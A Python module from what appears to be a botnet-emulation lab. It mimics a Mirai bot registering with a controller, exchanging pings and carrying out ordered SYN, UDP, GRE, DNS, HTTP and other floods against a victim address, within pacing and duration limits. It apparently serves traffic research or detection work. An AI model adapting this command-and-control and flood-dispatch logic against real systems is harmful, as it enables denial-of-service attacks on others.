"""A bot and its controller as Mirai's talk: a registration, signs of life both ways, orders (see `orders`)."""

import socket
import threading
import time
from collections.abc import Callable
from typing import Final

from botwarden.lab import links, orders, plan
from botwarden.lab.acting import Actor, Outcome
from botwarden.lab.acts.packet_floods import ack, dns, gre, syn, udp, vse
from botwarden.lab.acts.socket_floods import http, udpplain
from botwarden.lab.errors import LabError

NAME: Final = b"lab.arm7"
ORDER_WITHIN: Final = 10.0
"""s of the machine's time within which a controller passes an order on."""
MAX_SECONDS: Final = 120.0
FLOODS: Final[dict[str, Callable[..., Outcome]]] = {
    "syn": syn,
    "ack": ack,
    "udp": udp,
    "vse": vse,
    "greip": gre,
    "dns": dns,
    "udpplain": udpplain,
    "http": http,
}
"""What orders are for. Not all of Mirai's, but each that `scan` has a word for."""
_WITH_PORT: Final = ("syn", "ack", "udp", "udpplain", "http")


def call(actor: Actor, /, *, calls: int = 40, every: float = 60.0, jitter: float = 0.02) -> Outcome:
    """Register with the controller and exchange signs of life, about one a minute, on one connection."""
    steps = actor.permit.conversations(calls, 50.0)
    with register(actor) as link:
        for _ in steps:
            actor.pause(every, jitter)
            ping(link)
    said = f"one connection to {plan.CNC_IP}, port {plan.CNC_PORT}, with {calls} signs of life, {every:g} s apart"
    return Outcome(count=calls, target=plan.CNC_IP, what=said)


def obey(
    actor: Actor, /, *, order: str = "syn", seconds: int = 10, target: str = plan.VICTIM_IP, port: int = 0,
    rate: float = 300.0, before: float = 10.0, every: float = 5.0,
) -> Outcome:  # fmt: skip
    """Call the controller, get an order from it, and follow it: what counts begins when the order has come."""
    if order not in FLOODS or not 0 < seconds <= MAX_SECONDS:
        raise LabError(f"orders are {', '.join(FLOODS)}, for up to {MAX_SECONDS:g} s; not {order!r} for {seconds} s")
    words = orders.encode(orders.Order(order, seconds, links.address_of(target), port))
    actor.permit.paced(int(seconds * rate), rate)  # refuses now rather than later
    with register(actor) as link:
        for _ in range(min(int(before / max(every, 1.0)), 100)):
            actor.pause(every, 0.05)
            ping(link)
        orders.give(actor.folder, "cnc", words)
        told = await_order(link)
        actor.begin()
        over = threading.Event()
        alive = threading.Thread(target=_stay_in_touch, args=(link, every, over), daemon=True)
        alive.start()
        try:
            done = follow(actor, told, rate)
        finally:
            over.set()
            alive.join()
    return Outcome(count=done.count, target=done.target, what=f"told by {plan.CNC_IP}: {done.what}")


def register(actor: Actor) -> socket.socket:
    """Call the controller and say who this is. Raises Refused, OSError."""
    link = links.connect(actor.permit, plan.CNC_IP, plan.CNC_PORT)
    link.sendall(orders.REGISTER + bytes([len(NAME)]) + NAME)
    return link


def ping(link: socket.socket) -> None:
    """A sign of life, and its answer. Raises OSError where none comes."""
    link.sendall(orders.PING)
    if not link.recv(64):
        raise ConnectionError("the controller has hung up")


def await_order(link: socket.socket) -> orders.Order:
    """The next order. Raises LabError where none comes, OSError where the controller has hung up."""
    end = time.monotonic() + ORDER_WITHIN
    while time.monotonic() < end:
        try:
            heard = link.recv(orders.MAX_ORDER)
        except TimeoutError:
            continue
        if not heard:
            raise ConnectionError("the controller has hung up")
        told = orders.decode(heard)
        if told is not None:
            return told
    raise LabError("the controller passed no order on")


def follow(actor: Actor, told: orders.Order, rate: float) -> Outcome:
    """Do what an order says, for as long as it says. Raises Refused beyond the limits of the guard."""
    count = int(min(told.seconds, MAX_SECONDS) * rate)
    options: dict[str, object] = {"count": count, "rate": rate}
    if told.port and told.vector in _WITH_PORT:
        options["port"] = told.port
    if told.vector != "dns":  # whose packets go to a name server
        options["target"] = told.target
    return FLOODS[told.vector](actor, **options)


def _stay_in_touch(link: socket.socket, every: float, over: threading.Event) -> None:
    while not over.wait(max(every, 1.0)):
        try:
            ping(link)
        except OSError:
            return
